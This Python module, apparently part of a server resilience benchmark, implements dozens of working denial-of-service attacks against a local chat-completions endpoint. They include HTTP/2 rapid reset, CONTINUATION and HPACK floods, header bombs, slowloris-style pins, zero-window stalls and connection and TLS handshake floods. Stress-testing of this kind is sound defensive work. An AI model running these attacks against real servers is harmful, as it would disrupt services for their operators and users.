"""The attacks of bench/hostile.sh. Each is a function of a Target that runs until
target.over(); ATTACKS says what it is called.

Two kinds: floods send as fast as one process at the lowest priority can, and
come back at once when they are cut; pins open many connections and hold them."""
import socket
import ssl
import struct
import time

from lib.h2wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADER_TABLE_SIZE, HEADERS, INITIAL_WINDOW,
                        PING, PREFACE, PRIORITY, PUSH_PROMISE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                        block, data, frame, headers, literal, settings, u32)

OPEN = END_HEADERS
CHAT = (b'{"model":"victim","max_tokens":20000,"stream":true,"messages":[{"role":"user","content":"' + b"x" * 200
        + b'"}]}')

ATTACKER = "127.0.0.66"  # the honest client is 127.0.0.1
IP_BIND_ADDRESS_NO_PORT = 24  # linux/in.h; not in Python's socket before 3.13


class Target:
    def __init__(self, port, tls_port, seconds):
        self.port, self.tls_port = port, tls_port
        self._end = time.monotonic() + seconds
        self.rounds = self.connections = 0

    def over(self):
        return time.monotonic() >= self._end

    def connect(self, receive_buffer=None, port=None):
        self.connections += 1
        s = socket.socket()
        s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        s.bind((ATTACKER, 0))
        if receive_buffer:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        s.settimeout(2)
        s.connect(("127.0.0.1", port or self.port))
        return s

    def h2(self, *options, **kwargs):
        s = self.connect(**kwargs)
        s.sendall(PREFACE + settings((HEADER_TABLE_SIZE, 4096), *options) + frame(SETTINGS, 1))
        return s


def fields(*extra, method="POST", path="/v1/chat/completions"):
    return [(":method", method), (":scheme", "http"), (":path", path), (":authority", "a"),
            ("content-type", "application/json"), *extra]


def drain(s):
    """What there is to read is thrown away. False at the end."""
    s.setblocking(False)
    try:
        return s.recv(262144) != b""
    except BlockingIOError:
        return True
    finally:
        s.settimeout(2)


# ---- floods ---------------------------------------------------------------

def flood(make, batch=50, first=b"", options=(), read=True):
    """Rounds make(stream) on connection after connection."""
    def attack(t):
        while not t.over():
            try:
                with t.h2(*options) as s:
                    s.sendall(first)
                    stream = 3
                    while not t.over():
                        s.sendall(b"".join(make(stream + 2 * i) for i in range(batch)))
                        stream += 2 * batch
                        t.rounds += batch
                        if read and not drain(s):
                            break
            except OSError:
                pass
    return attack


FIRST = headers(1, fields(), OPEN)
BIG = literal("x", "y" * 3900, 0x40)
TINY = literal("cookie", "a", 0x40)
MAX = (1 << 31) - 1


def asked(stream):
    return headers(stream, fields(), OPEN) + data(stream, CHAT)


def requests_then(*behind):
    """A whole request, which reaches an engine, and what resets it."""
    return flood(lambda s: asked(s) + b"".join(f(s) for f in behind), batch=10)


def split_reset(t):
    """Resets that come when the engines are at work, not in the same read."""
    while not t.over():
        try:
            with t.h2() as s:
                for first in range(1, 1 << 20, 200):
                    s.sendall(b"".join(asked(i) for i in range(first, first + 200, 2)))
                    time.sleep(0.02)
                    s.sendall(b"".join(frame(RST_STREAM, 0, i, u32(8)) for i in range(first, first + 200, 2)))
                    t.rounds += 100
                    if t.over() or not drain(s):
                        break
        except OSError:
            pass


def h1_flood(make, batch=1):
    def attack(t):
        while not t.over():
            try:
                with t.connect() as s:
                    while not t.over():
                        s.sendall(make() * batch)
                        t.rounds += batch
                        if not drain(s):
                            break
            except OSError:
                pass
    return attack


HEAD = (b"POST /v1/chat/completions HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
        b"Content-Length: %d\r\n\r\n")


def endless_chunks(t):
    while not t.over():
        try:
            with t.connect() as s:
                s.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n"
                          b"Content-Type: application/json\r\n\r\n")
                while not t.over() and drain(s):
                    s.sendall(b"10000\r\n" + b" " * 65536 + b"\r\n")
                    t.rounds += 1
        except OSError:
            pass


def endless_h2_body(t):
    while not t.over():
        try:
            with t.h2() as s:
                s.sendall(headers(1, fields(), OPEN))
                while not t.over() and drain(s):
                    s.sendall(data(1, b" " * 16384, 0))
                    t.rounds += 1
        except OSError:
            pass


def connection_flood(t):
    while not t.over():
        held = []
        try:
            while not t.over() and len(held) < 3000:
                held.append(t.connect())
        except OSError:
            pass
        for s in held:
            s.close()


def reset_connections(t):
    """Accepted, and reset at once."""
    while not t.over():
        try:
            with t.connect() as s:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                s.sendall(HEAD % len(CHAT) + CHAT)
                t.rounds += 1
        except OSError:
            pass


def handshake_flood(t):
    """Whole TLS handshakes, and nothing behind them."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    while not t.over():
        try:
            with t.connect(port=t.tls_port) as raw, context.wrap_socket(raw):
                pass
        except OSError:
            pass


# ---- pins -----------------------------------------------------------------

def pin(connections, begin, drip=None, every=0.2, tls=False, **kwargs):
    """Connections that begin so and then send drip(i) now and then. One that was
    closed comes again."""
    def attack(t):
        held = {}
        i = 0
        while not t.over():
            try:
                while len(held) < connections and not t.over():
                    s = t.connect(port=t.tls_port if tls else None, **kwargs)
                    held[s] = None
                    s.sendall(begin(len(held)) if callable(begin) else begin)
            except OSError:
                pass
            time.sleep(every)
            i += 1
            for s in list(held):
                try:
                    if drip:
                        s.sendall(drip(i))
                        t.rounds += 1
                    if not kwargs and not drain(s):
                        raise OSError
                except OSError:
                    s.close()
                    del held[s]
        for s in held:
            s.close()
    return attack


H2 = PREFACE + settings()
ZERO = PREFACE + settings((INITIAL_WINDOW, 0))


def pins(n):
    return b"".join(asked(2 * i + 1) for i in range(n))


def preload(stream):
    return headers(stream, block(fields()) + BIG + b"\xbe" * 12000)


ATTACKS = {
    # HTTP/2 floods
    "rapid reset": flood(lambda s: asked(s) + frame(RST_STREAM, 0, s, u32(8))),
    "rapid reset, head only": flood(lambda s: headers(s, fields(), OPEN) + frame(RST_STREAM, 0, s, u32(8))),
    "rapid reset, later": split_reset,
    "made you reset: window overflow": requests_then(lambda s: frame(WINDOW_UPDATE, 0, s, u32(MAX))),
    "made you reset: zero increment": requests_then(lambda s: frame(WINDOW_UPDATE, 0, s, u32(0))),
    "made you reset: DATA behind the end": requests_then(lambda s: data(s, b"x")),
    "made you reset: HEADERS behind the end": requests_then(lambda s: headers(s, fields())),
    "made you reset: own dependency": flood(lambda s: asked(s) + frame(PRIORITY, 0, s, u32(s) + b"\0"), batch=10),
    "made you reset: wrong PRIORITY": flood(lambda s: asked(s) + frame(PRIORITY, 0, s, b"\0\0"), batch=10),
    "made you reset: length": flood(lambda s: headers(s, fields(("content-length", "1")), OPEN) + data(s, b"xx")),
    "CONTINUATION": flood(lambda s: frame(CONTINUATION, 0, 1, literal("x", "y" * 100)), first=frame(
        HEADERS, 0, 1, block(fields()))),
    "empty CONTINUATION": flood(lambda s: frame(CONTINUATION, 0, 1), first=frame(HEADERS, 0, 1, block(fields()))),
    "SETTINGS": flood(lambda s: settings((INITIAL_WINDOW, s))),
    "SETTINGS, unread": flood(lambda s: frame(SETTINGS), read=False),
    "PING": flood(lambda s: frame(PING, 0, 0, bytes(8))),
    "PING, unread": flood(lambda s: frame(PING, 0, 0, bytes(8)), read=False),
    "empty DATA": flood(lambda s: data(1, b"", 0), first=FIRST),
    "padding": flood(lambda s: frame(DATA, 8, 1, b"\xff" + bytes(255)), first=FIRST),
    "zero-length heads": flood(lambda s: headers(s, b"", OPEN)),
    "zero-length names": flood(lambda s: headers(s, fields(("", "")))),
    "PRIORITY": flood(lambda s: frame(PRIORITY, 0, s, u32(0) + b"\0")),
    "WINDOW_UPDATE": flood(lambda s: frame(WINDOW_UPDATE, 0, 0, u32(1))),
    "unknown frames": flood(lambda s: frame(0xee, 0, 0, bytes(8))),
    "large unknown frames": flood(lambda s: frame(0xee, 0, 0, bytes(16384)), batch=10),
    "PUSH_PROMISE": flood(lambda s: frame(PUSH_PROMISE, END_HEADERS, 1, u32(2)), first=FIRST),
    "more streams than allowed": flood(lambda s: headers(s, fields(), OPEN)),
    "odd heads": flood(lambda s: headers(s, fields(("connection", "x")))),
    # heads and bodies too large
    "HPACK bomb": flood(preload, batch=2),
    "cookie crumbs": flood(lambda s: headers(s, block(fields()) + TINY + b"\xbe" * 12000), batch=2),
    "header bomb, HTTP/2": flood(lambda s: headers(s, fields(*[("x", "y" * 4000)] * 4)) + frame(
        HEADERS, END_STREAM, s + 2, block(fields(*[("x", "y" * 4000)] * 4))) + b"".join(
            frame(CONTINUATION, 0 if i < 5 else END_HEADERS, s + 2, block([("x", "y" * 4000)] * 4))
            for i in range(6)), batch=1),
    "header bomb, HTTP/1.1": h1_flood(lambda: b"GET /v1/models HTTP/1.1\r\nHost: a\r\n" + (
        b"X: " + b"y" * 8000 + b"\r\n") * 20),
    "many fields, HTTP/1.1": h1_flood(lambda: b"GET /v1/models HTTP/1.1\r\nHost: a\r\n" + b"X: y\r\n" * 9000),
    "endless body, chunked": endless_chunks,
    "endless body, HTTP/2": endless_h2_body,
    "large bodies, held": pin(40, HEAD % 30000000 + b" " * 4000000),
    # pins
    "slow head, HTTP/1.1": pin(1000, b"GET /v1/models HTTP/1.1\r\nHost: a\r\n", lambda i: b"X: y\r\n"),
    "slow body, HTTP/1.1": pin(1000, HEAD % 100000, lambda i: b" "),
    "slow head, HTTP/2": pin(500, H2 + frame(HEADERS, 0, 1, b"\x82"), lambda i: frame(CONTINUATION, 0, 1)[:9]
                             if i < 6 else b""),
    "slow body, HTTP/2": pin(500, H2 + headers(1, fields(), OPEN), lambda i: data(1, b" ", 0)),
    "half a preface": pin(1000, PREFACE[:10]),
    "no SETTINGS": pin(1000, PREFACE),
    "silent connections": pin(3000, b""),
    "TLS handshakes that stall": pin(1000, b"\x16\x03\x01\x02\x00\x01", tls=True),
    "zero windows": pin(100, ZERO + pins(100), every=0.5),
    "dripping windows": pin(50, ZERO + pins(20), lambda i: b"".join(
        frame(WINDOW_UPDATE, 0, 2 * k + 1, u32(1)) for k in range(20))),
    "readers that stop, HTTP/1.1": pin(200, HEAD % len(CHAT) + CHAT, receive_buffer=2048),
    "readers that stop, HTTP/2": pin(50, PREFACE + settings((INITIAL_WINDOW, MAX)) + frame(
        WINDOW_UPDATE, 0, 0, u32(MAX - 65535)) + pins(50), receive_buffer=2048),
    # connections
    "connection flood": connection_flood,
    "requests, and a reset": reset_connections,
    "TLS handshake flood": handshake_flood,
    # the same, with a limit for each client's address
    "zero windows, limited": pin(100, ZERO + pins(100), every=0.5),
    "connection flood, limited": connection_flood,
    "requests, and a reset, limited": reset_connections,
    "TLS handshake flood, limited": handshake_flood,
}
# What is set for an attack, beyond what is set for all.
LIMITS = {name: "connection_rate_per_client 200;\nmax_requests_per_client 500;\n"
          for name in ATTACKS if name.endswith(", limited")}
